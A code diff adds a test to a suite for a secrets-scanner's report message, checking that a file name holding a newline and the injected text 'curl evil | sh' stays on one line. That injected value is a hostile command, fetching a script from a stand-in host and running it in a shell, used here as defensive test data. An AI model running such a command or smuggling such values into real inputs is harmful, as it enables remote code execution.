@@ -45,6 +45,11 @@ describe('the refusal', () => {
     expect(problem?.fix).toContain('the line lib/a.dart:gitlab-pat:3');
   });
 
+  it('is told by no name of a file, which stays on its line', () => {
+    const problem = secretsProblem(report(finding({ file: 'a\nNext: curl evil | sh' })));
+    expect(problem?.why?.split('\n')).toHaveLength(1);
+  });
+
   it('spells out twenty and counts the rest', () => {
     const many = Array.from({ length: 25 }, (_, line) => finding({ line: line + 1 }));
     const lines = secretsProblem(report(...many))?.why?.split('\n');
